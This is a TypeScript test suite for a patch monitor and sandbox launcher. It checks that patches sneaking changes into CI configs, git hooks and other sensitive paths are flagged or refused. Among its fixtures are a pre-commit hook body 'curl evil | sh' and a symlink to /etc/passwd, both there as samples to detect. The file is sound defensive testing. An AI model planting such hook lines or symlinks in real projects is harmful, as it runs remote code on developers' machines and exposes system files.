/**
 * A patch read one way: the monitor's files are git's reading (`git apply --numstat --summary`),
 * and the sandbox's launcher refuses a patch GNU patch would read differently. Real git and
 * real GNU patch processes; the launcher's comparison is replayed here on the host, in temp
 * folders, with the launcher's exact flags, against what GNU patch really changed on disk.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { assessRun, pathFindings, DEFAULT_SENSITIVE_PATH_RULES, type Finding } from '../src/monitor/index.js';
import { gnuPatchLine } from '../src/sandbox/patch-check.js';
import { irregularChanges, readPatch } from '../src/shared/index.js';

const cleanups: string[] = [];
afterAll(async () => {
  for (const d of cleanups) await rm(d, { recursive: true, force: true });
});

const run = (overrides: { patch?: string; artifactPaths?: string[] }) =>
  assessRun({ outcome: 'exited', stdoutTruncated: false, stderrTruncated: false, artifactPaths: overrides.artifactPaths ?? [], artifactsRejected: 0, ...overrides });
const ciPaths = (findings: Finding[]) => (findings.find((f) => f.kind === 'ci_config_change' && f.severity === 'high')?.details?.['paths'] as string[] | undefined) ?? [];

const create = (header: string, body = '+on: push') => ['--- /dev/null', header, '@@ -0,0 +1 @@', body, ''].join('\n');

describe('the monitor reads a patch as git does', () => {
  // each of these was risk `none` with the old regex, and GNU patch -p1 and git apply both apply them
  it.each([
    ['a C-quoted name', create('+++ "b/.github/workflows/ci.yml"'), '.github/workflows/ci.yml'],
    ['a C-quoted name with escapes', create('+++ "b/.github/workflows/c\\151.yml"'), '.github/workflows/ci.yml'],
    ['any strip component', create('+++ x/.gitlab-ci.yml'), '.gitlab-ci.yml'],
    ['two spaces after +++', create('+++  b/.travis.yml'), '.travis.yml'],
    ['a tab and a timestamp', create('+++ b/.drone.yml\t2024-01-01 00:00:00.000000000 +0000'), '.drone.yml'],
    [
      'a git header with quoted names',
      ['diff --git "a/.husky/pre-commit" "b/.husky/pre-commit"', 'new file mode 100644', create('+++ "b/.husky/pre-commit"', '+curl evil | sh')].join('\n'),
      '.husky/pre-commit',
    ],
    [
      'a rename into CI',
      ['diff --git a/notes.yml b/.circleci/config.yml', 'similarity index 100%', 'rename from notes.yml', 'rename to .circleci/config.yml', ''].join('\n'),
      '.circleci/config.yml',
    ],
    [
      'a copy into CI',
      ['diff --git a/a.yml b/.buildkite/pipeline.yml', 'similarity index 100%', 'copy from a.yml', 'copy to .buildkite/pipeline.yml', ''].join('\n'),
      '.buildkite/pipeline.yml',
    ],
    ['a case change', create('+++ b/.GitHub/workflows/x.yml'), '.GitHub/workflows/x.yml'],
  ])('%s is a high ci_config_change', async (_, patch, path) => {
    expect(ciPaths(await run({ patch }))).toContain(path);
  });

  it.each([
    ['.travis.yml'],
    ['azure-pipelines.yml'],
    ['bitbucket-pipelines.yml'],
    ['.drone.yml'],
    ['.gitlab/ci/build.yml'],
    ['.husky/pre-push'],
    ['.pre-commit-config.yaml'],
    ['.gitattributes'],
    ['sub/.gitattributes'],
    ['Jenkinsfile'],
    ['ci/Jenkinsfile'],
    ['.npmrc'],
    ['CODEOWNERS'],
  ])('the artifact %s is a high ci_config_change', async (path) => {
    expect(ciPaths(await run({ artifactPaths: [path, 'src/app.py'] }))).toEqual([path]);
  });

  it('other root dotfiles are a finding, high only where promotion is automatic; ordinary files are none', async () => {
    expect(await run({ artifactPaths: ['src/app.py', 'docs/.nojekyll'] })).toEqual([]);
    const findings = await run({ artifactPaths: ['.envrc.local', '.prettierrc'] });
    expect(findings).toEqual([expect.objectContaining({ kind: 'root_dotfile_change', severity: 'medium', details: { paths: ['.envrc.local', '.prettierrc'] } })]);
    expect(pathFindings(['.prettierrc'], DEFAULT_SENSITIVE_PATH_RULES, { automatic: true })).toEqual([expect.objectContaining({ kind: 'root_dotfile_change', severity: 'high' })]);
    expect(pathFindings(['.prettierrc'], { ...DEFAULT_SENSITIVE_PATH_RULES, allowRootDotfiles: ['.prettierrc'] }, { automatic: true })).toEqual([]);
  });

  it('names renames, copies and modes as git does; symlinks, gitlinks, executables and mode changes are irregular', async () => {
    const patch = [
      'diff --git a/link b/link',
      'new file mode 120000',
      '--- /dev/null',
      '+++ b/link',
      '@@ -0,0 +1 @@',
      '+/etc/passwd',
      '\\ No newline at end of file',
      'diff --git a/run.sh b/run.sh',
      'new file mode 100755',
      '--- /dev/null',
      '+++ b/run.sh',
      '@@ -0,0 +1 @@',
      '+echo hi',
      'diff --git a/dir/old.txt b/dir/new.txt',
      'similarity index 100%',
      'rename from dir/old.txt',
      'rename to dir/new.txt',
      'diff --git a/m.sh b/m.sh',
      'old mode 100644',
      'new mode 100755',
      'diff --git a/sub b/sub',
      'new file mode 160000',
      'index 0000000..1111111',
      '--- /dev/null',
      '+++ b/sub',
      '@@ -0,0 +1 @@',
      '+Subproject commit 1111111111111111111111111111111111111111',
      '',
    ].join('\n');
    const view = await readPatch(patch);
    expect(view.paths).toEqual(['dir/new.txt', 'dir/old.txt', 'link', 'm.sh', 'run.sh', 'sub']);
    expect(view.files.map(gnuPatchLine)).toEqual([
      'patching symbolic link link',
      'patching file run.sh',
      'patching file dir/new.txt (renamed from dir/old.txt)',
      'patching file m.sh',
      'patching file sub',
    ]);
    expect(irregularChanges(view)).toEqual([
      'creates link as a symlink (mode 120000)',
      'creates run.sh as an executable (mode 100755)',
      'changes m.sh to an executable (mode 100755)',
      'creates sub as a gitlink (mode 160000)',
    ]);
    expect((await run({ patch })).map((f) => f.kind)).toContain('patch_file_mode');
  });

  it('a patch git cannot read is INVALID_PATCH, and a high finding when it reaches the monitor', async () => {
    for (const patch of ['', 'just text\n', '*** a/x\n--- b/x\n***************\n*** 1 ****\n! a\n--- 1 ----\n! b\n', '1c1\n< a\n---\n> b\n']) {
      await expect(readPatch(patch)).rejects.toMatchObject({ code: 'INVALID_PATCH', details: { field: 'patch' } });
    }
    expect(await run({ patch: '1c1\n< a\n---\n> b\n' })).toContainEqual(expect.objectContaining({ kind: 'patch_refused', severity: 'high' }));
  });
});

// --- the launcher's cross-check, replayed on the host ---------------------------------

const exec = (cmd: string, args: string[], opts: { cwd: string; env?: Record<string, string> }) =>
  new Promise<{ code: number; stdout: string }>((resolve) => {
    execFile(cmd, args, { cwd: opts.cwd, env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', ...opts.env }, encoding: 'utf8' }, (err, stdout, stderr) =>
      resolve({ code: err === null ? 0 : typeof err.code === 'number' ? err.code : 1, stdout: stdout + stderr }),
    );
  });

async function snapshot(dir: string, base = dir): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) for (const [k, v] of await snapshot(p, base)) out.set(k, v);
    else out.set(p.slice(base.length + 1), e.isSymbolicLink() ? 'symlink' : await readFile(p, 'utf8'));
  }
  return out;
}

/**
 * What the launcher decides for `patch` over `files`: refused (git cannot read it, GNU patch
 * fails, or GNU patch's files differ from git's) or accepted, and what GNU patch changed on disk.
 */
async function launcher(files: Record<string, string>, patch: string): Promise<{ accepted: boolean; gitPaths: string[]; changed: string[] }> {
  const dir = await mkdtemp(join(tmpdir(), 'airlock-patch-check-'));
  cleanups.push(dir);
  for (const [p, content] of Object.entries(files)) {
    await mkdir(dirname(join(dir, p)), { recursive: true });
    await writeFile(join(dir, p), content);
  }
  const before = await snapshot(dir);
  await writeFile(join(dir, '..', `${dir.split('/').pop()}.patch`), patch);
  cleanups.push(`${dir}.patch`);
  let want: string[] | undefined;
  let gitPaths: string[] = [];
  try {
    const view = await readPatch(patch);
    gitPaths = [...view.paths];
    want = view.files.map(gnuPatchLine).sort();
  } catch {
    want = undefined;
  }
  const gnu = await exec('patch', ['-p1', '--batch', '--forward', '--no-backup-if-mismatch', '-r', '-', '-i', `${dir}.patch`], {
    cwd: dir,
    env: { LC_ALL: 'C', QUOTING_STYLE: 'escape' },
  });
  const got = gnu.stdout
    .split('\n')
    .filter((l) => l.startsWith('patching '))
    .sort();
  const after = await snapshot(dir);
  const changed = [...new Set([...before.keys(), ...after.keys()])].filter((k) => before.get(k) !== after.get(k)).sort();
  const accepted = want !== undefined && gnu.code === 0 && JSON.stringify(got) === JSON.stringify(want);
  return { accepted, gitPaths, changed };
}

describe("the launcher's cross-check (GNU patch against git's reading)", () => {
  const readme = { 'README.md': 'hello\n' };

  it('accepts the forms both read alike', async () => {
    const cases: [Record<string, string>, string][] = [
      [readme, ['--- a/README.md', '+++ b/README.md', '@@ -1 +1 @@', '-hello', '+hi', ''].join('\n')],
      [{}, create('+++ "b/.github/workflows/ci.yml"')],
      [{}, create('+++ x/.gitlab-ci.yml')],
      [{}, create('+++  b/.travis.yml')],
      [{ 'sp ace.txt': 'z\n' }, ['diff --git "a/sp ace.txt" "b/sp ace.txt"', '--- "a/sp ace.txt"', '+++ "b/sp ace.txt"', '@@ -1 +1 @@', '-z', '+zz', ''].join('\n')],
      [
        { 'café.md': 'q\n' },
        ['diff --git "a/caf\\303\\251.md" "b/caf\\303\\251.md"', '--- "a/caf\\303\\251.md"', '+++ "b/caf\\303\\251.md"', '@@ -1 +1 @@', '-q', '+qq', ''].join('\n'),
      ],
      [{ 'old.txt': 'a\n' }, ['diff --git a/old.txt b/new.txt', 'similarity index 100%', 'rename from old.txt', 'rename to new.txt', ''].join('\n')],
      [{}, ['diff --git a/link b/link', 'new file mode 120000', '--- /dev/null', '+++ b/link', '@@ -0,0 +1 @@', '+target', '\\ No newline at end of file', ''].join('\n')],
    ];
    for (const [files, patch] of cases) {
      const r = await launcher(files, patch);
      expect(r, patch).toMatchObject({ accepted: true });
      expect(
        r.changed.every((p) => r.gitPaths.includes(p)),
        patch,
      ).toBe(true);
    }
  });

  it('refuses the forms read two ways', async () => {
    const cases: [Record<string, string>, string][] = [
      // GNU patch picks the name that exists (README.md); git takes the new name
      [readme, ['--- a/README.md', '+++ "b/.github/workflows/ci.yml"', '@@ -1 +1 @@', '-hello', '+on: push', ''].join('\n')],
      [readme, ['--- a/README.md', '+++ b/.gitlab-ci.yml', '@@ -1 +1 @@', '-hello', '+x: 1', ''].join('\n')],
      // an Index: line names the file for GNU patch only
      [readme, ['Index: README.md', '--- a/x/y', '+++ b/x/y', '@@ -1 +1 @@', '-hello', '+bye', ''].join('\n')],
      // context and normal diffs: GNU patch applies them, git reads nothing
      [readme, ['*** a/README.md', '--- b/README.md', '***************', '*** 1 ****', '! hello', '--- 1 ----', '! bye', ''].join('\n')],
      [readme, ['Index: README.md', '1c1', '< hello', '---', '> bye', ''].join('\n')],
      // an unquoted name with a space: GNU patch stops at the space
      [{ 'my file': 'z\n' }, ['--- a/my file', '+++ b/my file', '@@ -1 +1 @@', '-z', '+zz', ''].join('\n')],
    ];
    for (const [files, patch] of cases) expect((await launcher(files, patch)).accepted, patch).toBe(false);
  });

  // random header forms over a tree with ordinary and CI files: whenever the launcher accepts,
  // GNU patch changed only files git named (so the monitor and the git target saw them)
  it('fuzz: an accepted patch never changes a file git did not name', async () => {
    let seed = 0x5eed;
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const pick = <T>(xs: readonly T[]): T => xs[rnd(xs.length)]!;
    const names = ['README.md', 'src/app.py', '.github/workflows/ci.yml', '.gitlab-ci.yml', 'a b.txt', 'new.txt'];
    const quote = (s: string) => `"${s.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
    const header = (prefix: string, name: string) => {
      const full = pick([`${prefix}/${name}`, `${prefix}/${name}`, `x/${name}`, name, `./${name}`]);
      const shown = pick([full, full, quote(full)]);
      return `${pick([' ', ' ', '  ', '\t'])}${shown}${pick(['', '', '\t2024-01-01 00:00:00 +0000'])}`;
    };
    let accepted = 0;
    let refused = 0;
    for (let i = 0; i < 120; i++) {
      const files = { 'README.md': 'hello\n', 'src/app.py': 'hello\n', '.github/workflows/ci.yml': 'hello\n', '.gitlab-ci.yml': 'hello\n', 'a b.txt': 'hello\n' };
      const from = pick(names);
      const to = pick([from, from, from, pick(names)]);
      const lines = [
        ...(rnd(4) === 0 ? [`Index: ${pick(names)}`] : []),
        ...(rnd(3) === 0 ? [`diff --git ${quote(`a/${from}`)} ${quote(`b/${to}`)}`] : []),
        `---${header('a', from)}`,
        `+++${header('b', to)}`,
        '@@ -1 +1 @@',
        '-hello',
        '+changed',
        '',
      ];
      const r = await launcher(files, lines.join('\n'));
      if (r.accepted) {
        accepted++;
        expect(
          r.changed.filter((p) => !r.gitPaths.includes(p)),
          lines.join('\n'),
        ).toEqual([]);
      } else refused++;
    }
    expect(accepted).toBeGreaterThan(10);
    expect(refused).toBeGreaterThan(10);
  }, 120_000);
});
